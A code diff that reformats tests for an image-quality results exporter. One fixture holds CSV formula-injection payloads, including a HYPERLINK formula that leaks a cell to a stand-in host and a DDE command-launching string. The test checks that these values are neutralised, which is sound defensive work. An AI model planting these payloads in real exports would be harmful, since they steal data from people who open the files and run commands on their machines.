@@ -21,12 +21,32 @@ REPO = Path(__file__).resolve().parents[3]
 
 COLUMNS = export_columns(["NIQE", "BRISQUE"])
 ROWS: list[dict[str, Any]] = [
-    {"item_id": "a.jpg", "line": 2, "image": Path("/data/a.jpg"), "status": "done",
-     "quality_score": 3.25, "mos": 61.5, "correct": True, "fallbacks": 0,
-     "tools": "BRISQUE;NIQE", "tool:BRISQUE": 3.5, "tool:NIQE": 2.75, "not_exported": 1},
-    {"item_id": "b.jpg", "line": 3, "image": "/data/b.jpg", "status": "failed",
-     "error": "tool \"NIQE\" failed,\nbadly", "quality_score": math.nan, "mos": None,
-     "correct": None, "fallbacks": 2, "tool:BRISQUE": None},
+    {
+        "item_id": "a.jpg",
+        "line": 2,
+        "image": Path("/data/a.jpg"),
+        "status": "done",
+        "quality_score": 3.25,
+        "mos": 61.5,
+        "correct": True,
+        "fallbacks": 0,
+        "tools": "BRISQUE;NIQE",
+        "tool:BRISQUE": 3.5,
+        "tool:NIQE": 2.75,
+        "not_exported": 1,
+    },
+    {
+        "item_id": "b.jpg",
+        "line": 3,
+        "image": "/data/b.jpg",
+        "status": "failed",
+        "error": 'tool "NIQE" failed,\nbadly',
+        "quality_score": math.nan,
+        "mos": None,
+        "correct": None,
+        "fallbacks": 2,
+        "tool:BRISQUE": None,
+    },
 ]
 
 
@@ -76,12 +96,26 @@ def test_parquet_is_typed_with_nulls(tmp_path: Path) -> None:
 def generated(n: int, query_chars: int = 0) -> Iterator[dict[str, Any]]:
     """``n`` rows; ``query_chars``: a query of that length, different on every row."""
     for i in range(n):
-        query = (f"item {i}: is it sharp? " + "Look at every edge and texture. " * (
-            query_chars // 32 + 1))[:query_chars] if query_chars else None
-        yield {"item_id": f"item-{i:05d}", "line": i + 2, "image": f"/data/{i:05d}.jpg",
-               "status": "done", "quality_score": 1 + (i % 400) / 100, "mos": float(i % 100),
-               "tools": "BRISQUE", "tool:BRISQUE": 2.5, "final_answer": "Good " * 20,
-               "query": query}
+        query = (
+            (
+                f"item {i}: is it sharp? "
+                + "Look at every edge and texture. " * (query_chars // 32 + 1)
+            )[:query_chars]
+            if query_chars
+            else None
+        )
+        yield {
+            "item_id": f"item-{i:05d}",
+            "line": i + 2,
+            "image": f"/data/{i:05d}.jpg",
+            "status": "done",
+            "quality_score": 1 + (i % 400) / 100,
+            "mos": float(i % 100),
+            "tools": "BRISQUE",
+            "tool:BRISQUE": 2.5,
+            "final_answer": "Good " * 20,
+            "query": query,
+        }
 
 
 #: Run in a fresh process: write ``n`` rows of about 1 kB each (a query of its own on each
@@ -115,10 +149,18 @@ def peak_rss_kib() -> int:
 
 def peak_rss_writing(n: int, fmt: str, path: Path) -> int:
     """Peak resident memory (KiB) of a process that exported ``n`` rows to ``path``."""
-    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
-        filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
-    result = subprocess.run([sys.executable, "-c", _PEAK_RSS, str(n), fmt, str(path)],
-                            cwd=REPO, env=env, capture_output=True, text=True, timeout=120)
+    env = {
+        **os.environ,
+        "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")])),
+    }
+    result = subprocess.run(
+        [sys.executable, "-c", _PEAK_RSS, str(n), fmt, str(path)],
+        cwd=REPO,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 0, result.stderr[-3000:]
     written, peak = map(int, result.stdout.split())
     assert written == n
@@ -137,8 +179,10 @@ def test_writing_streams_in_flat_memory(tmp_path: Path, fmt: str) -> None:
     small = peak_rss_writing(1_000, fmt, tmp_path / f"small.{fmt}")
     large = peak_rss_writing(10_000, fmt, tmp_path / f"large.{fmt}")
     growth = (large - small) / 1024
-    assert growth < 4, f"peak RSS {small / 1024:.1f} MiB for 1,000 rows, {large / 1024:.1f} " \
-                       f"MiB for 10,000: +{growth:.1f} MiB"
+    assert growth < 4, (
+        f"peak RSS {small / 1024:.1f} MiB for 1,000 rows, {large / 1024:.1f} "
+        f"MiB for 10,000: +{growth:.1f} MiB"
+    )
     path = tmp_path / f"large.{fmt}"
     if fmt == "parquet":
         metadata = pq.ParquetFile(path).metadata
@@ -171,22 +215,43 @@ def test_bad_arguments_are_refused(tmp_path: Path) -> None:
 
 
 HOSTILE: dict[str, Any] = {
-    "item_id": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "line": 7,
-    "image": "@SUM(1+1)", "reference": "\t=1+1", "query": "+cmd|' /C calc'!A0",
-    "status": "failed", "error": "-2+3", "run_id": "\r=2", "final_answer": "=1",
-    "quality_score": -1.5, "mos": -0.25, "answer_truth": "A", "correct": False,
-    "severities": "Blurs=severe", "fallbacks": -1, "tools": "+BRISQUE", "tool:BRISQUE": -2.0,
+    "item_id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "line": 7,
+    "image": "@SUM(1+1)",
+    "reference": "\t=1+1",
+    "query": "+cmd|' /C calc'!A0",
+    "status": "failed",
+    "error": "-2+3",
+    "run_id": "\r=2",
+    "final_answer": "=1",
+    "quality_score": -1.5,
+    "mos": -0.25,
+    "answer_truth": "A",
+    "correct": False,
+    "severities": "Blurs=severe",
+    "fallbacks": -1,
+    "tools": "+BRISQUE",
+    "tool:BRISQUE": -2.0,
 }
 
 
 def test_csv_neutralises_formula_text_in_every_text_column_and_keeps_numbers(
-        tmp_path: Path) -> None:
+    tmp_path: Path,
+) -> None:
     path = tmp_path / "out.csv"
     write_rows([HOSTILE], path, "csv", COLUMNS)
     with path.open(newline="", encoding="utf-8") as handle:
         (row,) = csv.DictReader(handle)
-    for column in ("item_id", "image", "reference", "query", "error", "run_id",
-                   "final_answer", "tools"):
+    for column in (
+        "item_id",
+        "image",
+        "reference",
+        "query",
+        "error",
+        "run_id",
+        "final_answer",
+        "tools",
+    ):
         assert row[column] == "'" + HOSTILE[column], column
     assert row["severities"] == "Blurs=severe" and row["answer_truth"] == "A"
     assert row["status"] == "failed" and row["correct"] == "False"
@@ -211,21 +276,31 @@ def test_the_query_column_holds_the_query_each_item_is_asked(engine, tmp_path: P
 
     image = Path(__file__).resolve().parents[3] / "examples" / "i03_blurred.png"
     manifest = tmp_path / "manifest.jsonl"
-    manifest.write_text(json.dumps({"id": "own", "image": str(image),
-                                    "query": "Is the sky noisy?"}) + "\n"
-                        + json.dumps({"id": "default", "image": str(image)}) + "\n",
-                        encoding="utf-8")
-    asked = lifecycle.submit(engine, JobSpec.build(manifest=manifest, query="Is it sharp?",
-                                                   check_images=False))
+    manifest.write_text(
+        json.dumps({"id": "own", "image": str(image), "query": "Is the sky noisy?"})
+        + "\n"
+        + json.dumps({"id": "default", "image": str(image)})
+        + "\n",
+        encoding="utf-8",
+    )
+    asked = lifecycle.submit(
+        engine, JobSpec.build(manifest=manifest, query="Is it sharp?", check_images=False)
+    )
     _columns, rows = export_rows(engine, asked)
     assert {row["item_id"]: row["query"] for row in rows} == {
-        "own": "Is the sky noisy?", "default": "Is it sharp?"}
+        "own": "Is the sky noisy?",
+        "default": "Is it sharp?",
+    }
     implied = lifecycle.submit(engine, JobSpec.build(manifest=manifest, check_images=False))
     _columns, rows = export_rows(engine, implied)
     assert {row["item_id"]: row["query"] for row in rows} == {
-        "own": "Is the sky noisy?", "default": "Rate the quality of this image."}
+        "own": "Is the sky noisy?",
+        "default": "Rate the quality of this image.",
+    }
     path = tmp_path / "rows.csv"
     write_rows(export_rows(engine, implied)[1], path, "csv", export_rows(engine, implied)[0])
     with path.open(newline="", encoding="utf-8") as handle:
         assert [row["query"] for row in csv.DictReader(handle)] == [
-            "Is the sky noisy?", "Rate the quality of this image."]
+            "Is the sky noisy?",
+            "Rate the quality of this image.",
+        ]
